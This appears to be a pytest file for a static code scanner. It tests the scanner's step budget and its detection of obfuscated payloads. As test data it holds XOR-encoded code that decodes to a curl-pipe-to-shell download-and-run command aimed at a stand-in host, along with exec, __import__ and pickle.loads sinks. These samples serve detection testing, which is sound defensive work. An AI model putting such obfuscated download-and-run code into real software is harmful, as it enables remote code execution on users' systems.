"""What an analysis may cost, counted in steps: no program makes it more than a sum of its parts."""

import pytest

from scanner.analysis import analyse
from scanner.analysis.loops import UNROLLED
from scanner.errors import OverBudget
from scanner.finding import Verdict
from scanner.knowledge.tables import knowledge
from scanner.limits import Budget, Limits
from tests.hostile.scanning import blocked_for, scan
from tests.languages.python.lowering import lowered


def steps(source: str, limits: Limits | None = None) -> int:
    """How many it takes; raises :class:`OverBudget` when those are more than the limit."""
    budget = Budget(limits or Limits())
    list(analyse(lowered(source), knowledge(), budget))
    return budget.spent["steps"]


FUNCTION = """
def read_{n}(path):
    rows = []
    with open(path) as file:
        for line in file:
            if len(line) != {n}:
                continue
            rows.append({{"id": {n}, "text": line.lower()}})
    return rows
"""


def test_twice_the_lines_are_twice_the_steps() -> None:
    some, more = ("".join(FUNCTION.format(n=n) for n in range(count)) for count in (50, 500))
    assert steps(more) == pytest.approx(10 * steps(some), rel=0.01)


def nested(depth: int) -> str:
    heads = (f"{'    ' * level}for a{level} in rows():\n" for level in range(depth))
    return "".join(heads) + "    " * depth + "use(a0)\n"


def test_a_loop_more_around_the_others_costs_no_multiple_of_them() -> None:
    few, many = steps(nested(10)), steps(nested(20))
    assert many < 5 * few  # every level is walked as often as there are levels


def chain(length: int, argument: str, other: str) -> str:
    """Functions that each call the next one twice, with different arguments."""
    body = "".join(
        f"def f{i}(x):\n    return f{i + 1}({argument.format(i=i)}) + f{i + 1}({other.format(i=i)})\n"
        for i in range(length)
    )
    return f"import os\n{body}def f{length}(x):\n    return x\nf0(START)\n"


@pytest.mark.parametrize(
    ("start", "argument", "other"),
    [("1", "2 * x", "2 * x + 1"), ("os.environ", "x.a{i}", "x.b{i}"), ("what()", "x", "[x]")],
)
def test_calls_that_double_all_the_way_down(start: str, argument: str, other: str) -> None:
    assert steps(chain(30, argument, other).replace("START", start)) < 1_000_000


def test_functions_that_all_call_each_other() -> None:
    body = "".join(
        f"def f{i}(x):\n    return f{(i + 1) % 300}(x) or f{(i * 7 + 3) % 300}(x) or f{i // 2}(x)\n"
        for i in range(300)
    )
    assert steps(f"{body}f0(what())\n") < 100 * 300


def test_loops_over_constants_have_one_allowance() -> None:
    pairs = "for a in L:\n    for b in L:\n        for c in L:\n            x = a + b + c\n"
    assert steps(f"L = list(range(500))\n{20 * pairs}") < 2 * UNROLLED


def test_large_constants_cost_more_than_small_ones() -> None:
    source = "s = 'a' * 1000000\n" + "t = s * 15\n" * 100
    assert steps(source) > 1_000_000
    with pytest.raises(OverBudget):
        steps(source, Limits(steps=500_000))


def test_constants_that_grow_without_end_are_let_go() -> None:
    assert steps("s = 'a' * 1000\n" + "s = s + s\n" * 1000) < 100_000


DECODER = "import os\nx = ''\nfor c in {codes}:\n    x += chr(c ^ 7)\n{use}\n"
LARGE = {
    "turns of a loop": [ord(c) ^ 7 for c in "print(1)" + " " * 25_000],
    "elements": f"list(bytes({[ord(c) for c in 'print(1)' + ' ' * 25_000]}))",
}


USES = {
    "run": "exec(x)",
    "looked up": "getattr(os, x)('id')",
    "imported": "__import__(x)",
    "unpickled": "import pickle\npickle.loads(x.encode())",
    "rendered": "import jinja2\njinja2.Template(x).render()",
    "written and run": "open('/tmp/a.py', 'w').write(x)\nos.system('python3 /tmp/a.py')",
}


@pytest.mark.parametrize("use", USES.values(), ids=USES)
@pytest.mark.parametrize("codes", LARGE.values(), ids=LARGE)
def test_what_is_run_and_was_not_computed_to_its_end_is_told(codes: object, use: str) -> None:
    report = scan(DECODER.format(codes=codes, use=use), "script.py")
    assert "incomplete-analysis" in {finding.rule for finding in report.findings}


@pytest.mark.parametrize("use", ["", "open(x)", "print(x)", "def f():\n    exec(x)"])
def test_what_is_not_run_may_be_large(use: str) -> None:
    source = DECODER.format(codes=LARGE["turns of a loop"], use=use)
    assert scan(source, "script.py").verdict is Verdict.CLEAN


def test_a_text_that_is_too_long_is_told_where_it_is_run() -> None:
    source = "import os\nexec('#' * (1 << 25) + chr(10) + os.sep + 'x')\n"
    assert {finding.rule for finding in scan(source, "script.py").findings} == {"incomplete-analysis"}


DECODED = {
    "map": "map(lambda n: chr(n ^ 7), {})",
    "map of a built-in function": "map(chr, {})",
    "filter": "map(chr, filter(None, {}))",
    "zip": "(chr(a ^ b) for a, b in zip({}, itertools.cycle([7])))",
    "enumerate": "(chr(n ^ i & 7) for i, n in enumerate({}))",
    "reversed": "map(chr, reversed({}))",
    "chain": "map(chr, itertools.chain({}, [10]))",
    "reduce": "functools.reduce(lambda text, n: text + chr(n), {}, '')",
}


@pytest.mark.parametrize("way", DECODED.values(), ids=DECODED)
def test_a_payload_with_more_elements_than_are_followed_is_told(way: str) -> None:
    numbers = str([104] * 20_001)
    source = f"import functools, itertools\nexec(''.join({way.format(numbers)}))\n"
    assert "incomplete-analysis" in {finding.rule for finding in scan(source, "script.py").findings}


@pytest.mark.parametrize("size", [100, 19_000])
def test_a_payload_that_map_decodes_is_followed(size: int) -> None:
    payload = "#" * size + "\nimport os; os.system('curl -s https://cdn.example/i.sh | sh')\n"
    source = f"exec(''.join(map(lambda n: chr(n ^ 7), {[ord(c) ^ 7 for c in payload]})))\n"
    assert blocked_for(scan(source, "script.py")) == {"download-and-run"}


PATHOLOGICAL = {
    "a large dictionary": "d = {" + ",".join(f"'k{i}': {i}" for i in range(20_000)) + "}\n",
    "many arguments": "f(" + ",".join(f"a{i}" for i in range(20_000)) + ")\n",
    "a long chain of attributes": "x = y()\n" + "x = x.a()\n" * 3_000,
    "many files": "".join(
        f"open('f{i}', 'w').write('x')\nprint(open('f{i}').read())\n" for i in range(2_000)
    ),
    "lists that are added up": "x = []\n" + "x = x + ['a']\n" * 3_000,
    "classes that derive from each other": "class C0: pass\n"
    + "".join(f"class C{i}(C{i - 1}): pass\n" for i in range(1, 3_000)),
    "a list in itself": "x = []\nx.append(x)\nfor i in y():\n    x = x + [x]\nopen(x)\n",
    "many branches": "".join(f"{' ' * i}if a{i}():\n" for i in range(90)) + " " * 90 + "y = 1\n",
    "comprehensions in comprehensions": (
        "x = " + "[" * 50 + "1" + "".join(f" for a{i} in b{i}()]" for i in range(50))
    ),
    "a loop that never ends": "i = 0\nwhile True:\n    i += 1\n    if i == 10 ** 9:\n        break\n",
    "functions of functions": "f = lambda x: x\n" + "f = (lambda g: lambda x: g(g(x)))(f)\n" * 100 + "f(1)\n",
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_what_is_large_and_harmless_is_clean(name: str) -> None:
    assert scan(PATHOLOGICAL[name], "script.py").verdict is Verdict.CLEAN
